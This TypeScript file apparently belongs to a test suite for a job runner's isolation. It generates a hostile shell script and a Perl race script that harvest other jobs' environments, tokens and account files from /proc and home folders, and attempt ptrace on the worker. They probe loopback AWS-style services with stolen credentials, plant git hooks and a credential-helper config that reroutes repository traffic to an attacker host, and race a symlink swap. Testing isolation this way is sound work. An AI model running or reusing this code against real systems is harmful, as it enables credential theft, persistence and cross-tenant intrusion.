/**
 * What a hostile job tries in order to find other people's secrets. It copies everything that it can read, and every
 * answer that it gets, into a folder that all users of the machine can write to. The caller searches that folder.
 */
export interface Hunt {
  /** World-writable. */
  readonly loot: string;
  /** The home of the local run. */
  readonly home: string;
  /** The private folder of another job that runs at the same time. */
  readonly neighbour: string;
  /** An HTTP address of the attacker's, host and port. */
  readonly attacker: string;
  /** The repository's host and port. */
  readonly repository: string;
  /** Where the local run listens on loopback; a job finds that out in /proc/net/tcp. */
  readonly ports: readonly number[];
}

/** In the loot: the race has begun. */
export const RACING = 'racing';
/** In the loot: the race may end. */
export const ENOUGH = 'enough';

/** Swaps the places, about 500 times a second, and pauses in each state: the service has to meet all of them. */
const RACE = `
my ($loot, $home) = @ENV{"LOOT", "HOME_OF_RUN"};
my $place = "$home/workspaces/race/place";
my $aside = "$home/workspaces/race/aside";
my $config = "";
if (open my $file, "<", "$loot/config") { local $/; $config = <$file>; }
sub pause { select undef, undef, undef, 0.0005 }
until (-e "$loot/${ENOUGH}") {
  for my $git (grep { $_ ne "" } @ARGV) {
    open my $file, ">", "$git/config.$$" or next;
    print $file $config;
    close $file;
    rename "$git/config.$$", "$git/config";
  }
  rename $place, $aside;
  symlink "$home/account", $place;
  pause;
  unlink $place;
  pause;
  rename $aside, $place;
  pause;
}
`;

export function huntingScript({ loot, home, neighbour, attacker, repository, ports }: Hunt): string {
  return `
loot='${loot}' home='${home}' neighbour='${neighbour}'
take() { head -c 2000000 >> "$loot/$(id -u)-$$.txt"; }

# Processes: environments, arguments, open files and memory.
cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline 2> /dev/null > "$loot/processes-$$.txt"
for file in /proc/$PPID/fd/* /proc/$PPID/cwd/* /proc/$PPID/root/proc/$PPID/environ; do
  [ -f "$file" ] && cat "$file" 2> /dev/null | take
done
# PTRACE_SEIZE, which does not stop the worker.
perl -e 'exit(syscall(101, 0x4206, $ARGV[0] + 0, 0, 0) == -1)' $PPID 2> /dev/null && echo ptrace | take

# Files of the home, of other jobs and of the worker.
find "$home" "$neighbour" -type f -size -2000k -exec cat {} + 2> /dev/null | take
for path in "$home/local.json" "$home/operator.json" "$home/token" "$home/secrets.env" "$home"/account/*/*/*; do
  cat "$path" 2> /dev/null | take
  ln -s "$path" "$PROMPTQ_ATTACHMENTS/link-$(basename "$path")" 2> /dev/null
  ln "$path" "$PROMPTQ_ATTACHMENTS/hard-$(basename "$path")" 2> /dev/null
done
ln -s "$neighbour" "$PROMPTQ_ATTACHMENTS/folder"

# Servers on this machine: without credentials, with invented ones, and with any that an environment showed.
key=$(tr '\\0' '\\n' 2> /dev/null < /proc/$PPID/environ | sed -n 's/^AWS_ACCESS_KEY_ID=//p')
secret=$(tr '\\0' '\\n' 2> /dev/null < /proc/$PPID/environ | sed -n 's/^AWS_SECRET_ACCESS_KEY=//p')
ask() { curl --silent --max-time 1 "$@" 2> /dev/null | take; }
for port in ${ports.join(' ')}; do
  at="http://127.0.0.1:$port"
  for user in 'local:local' 'x:x' "$key:$secret"; do
    for table in Jobs Registry; do
      ask --user "$user" --aws-sigv4 aws:amz:us-east-1:dynamodb -H 'Content-Type: application/x-amz-json-1.0' \\
        -H 'X-Amz-Target: DynamoDB_20120810.Scan' --data "{\\"TableName\\":\\"$table\\"}" "$at/"
    done
    ask --user "$user" --aws-sigv4 aws:amz:us-east-1:sqs -H 'X-Amz-Target: AmazonSQS.ListQueues' \\
      -H 'Content-Type: application/x-amz-json-1.0' --data '{}' "$at/"
    ask --user "$user" --aws-sigv4 aws:amz:us-east-1:s3 "$at/promptq-output?list-type=2"
  done
  ask "$at/"
  ask "$at/practice/state"
  ask -H 'Authorization: Bearer practice-vendor-key' "$at/practice/state"
  ask -H 'Host: evil.example' "$at/api/v1/jobs"
done

# Git: whatever the jobs of this project share.
common=$(git rev-parse --git-common-dir 2> /dev/null)
if [ -n "$common" ]; then
  common=$(cd "$common" && pwd)
  printf '#!/bin/bash\\n(env; cat /proc/self/environ) >> %s/hook-$$.txt 2> /dev/null\\n' "$loot" > "$loot/hook.sh"
  chmod 755 "$loot/hook.sh"
  alternates=$(cat "$common/objects/info/alternates" 2> /dev/null)
  for git in "$common" "\${alternates%/objects}"; do
    [ -d "$git" ] || continue
    mkdir -p "$git/hooks" "$git/info" 2> /dev/null
    for hook in post-checkout post-commit pre-commit reference-transaction post-index-change; do
      cp "$loot/hook.sh" "$git/hooks/$hook" 2> /dev/null
    done
    echo '* filter=x diff=x' > "$git/info/attributes" 2> /dev/null
    echo /etc > "$git/objects/info/alternates.planted" 2> /dev/null
  done
  cat > "$loot/config" <<CONFIG
[core]
	repositoryformatversion = 0
	bare = true
	sharedRepository = group
	fsmonitor = $loot/hook.sh
	sshCommand = $loot/hook.sh
	hooksPath = $loot
[filter "x"]
	clean = $loot/hook.sh
	smudge = $loot/hook.sh
[diff "x"]
	textconv = $loot/hook.sh
[credential]
	helper = $loot/hook.sh
[url "http://${attacker}/"]
	insteadOf = http://${repository}/
CONFIG
fi

# Races: configuration of a shared clone, and a folder that is now a folder and now a link.
mkdir -p "$home/workspaces/race/place" 2> /dev/null
touch "$loot/${RACING}"
LOOT="$loot" HOME_OF_RUN="$home" perl -e '${RACE}' "$common" "\${alternates%/objects}"
cat "$neighbour"/* "$home"/account/*/*/* 2> /dev/null | take
echo hunted`;
}
